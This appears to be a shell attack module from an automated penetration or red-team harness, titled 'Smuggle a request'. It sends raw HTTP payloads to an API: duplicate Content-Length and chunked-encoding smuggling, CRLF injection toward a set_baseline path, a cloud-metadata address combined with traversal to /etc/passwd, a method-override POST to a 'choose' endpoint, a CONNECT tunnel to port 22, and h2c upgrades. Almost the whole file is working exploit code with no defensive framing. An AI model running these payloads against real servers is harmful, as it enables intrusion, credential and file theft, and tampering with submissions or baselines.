# title: Smuggle a request
# tries: Sends two lengths, a length with chunks, folded headers, line breaks in addresses and other methods in headers.
# attacks: api
# from: the requirement
# ends: no submission
# steps: 7
need perl
try() { answer=$(printf "$2" | raw 5 | tr '\r\n' '  ' | head -c 400); tried "$1 -> $(printf '%s' "$answer" | head -c 60)"; case $answer in *'HTTP/1.1 20'*smuggled*|*'set":true'*) gained "$1";; esac; case $answer in *'HTTP/1.1 5'*) gained "a failure of the server by $1: $answer";; esac; }
p="/$token"
try 'two lengths' "POST $p/submit HTTP/1.1\r\nHost: h\r\nContent-Length: 2\r\nContent-Length: 60\r\n\r\n{}GET /health?smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
try 'a length and chunks' "POST $p/submit HTTP/1.1\r\nHost: h\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /health?smuggled HTTP/1.1\r\nHost: h\r\n\r\n"
try 'a transfer encoding that is none' "POST $p/submit HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: xchunked\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
try 'folded headers' "GET $p/health HTTP/1.1\r\nHost: h\r\nX: a\r\n b: c\r\nConnection: close\r\n\r\n"
try 'a line break in the address' "GET $p/health%%0d%%0aX:%%20y/%%2e%%2e/set_baseline HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n"
try 'an absolute address' "GET http://169.254.169.254$p/health/../../../etc/passwd HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n"
try 'a method in a header' "GET $p/submissions/1/choose HTTP/1.1\r\nHost: h\r\nX-HTTP-Method-Override: POST\r\nConnection: close\r\n\r\n"
try 'a tunnel' "CONNECT 127.0.0.1:22 HTTP/1.1\r\nHost: 127.0.0.1:22\r\n\r\n"
try 'another protocol' "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
try 'an upgrade' "GET $p/health HTTP/1.1\r\nHost: h\r\nConnection: Upgrade, close\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"
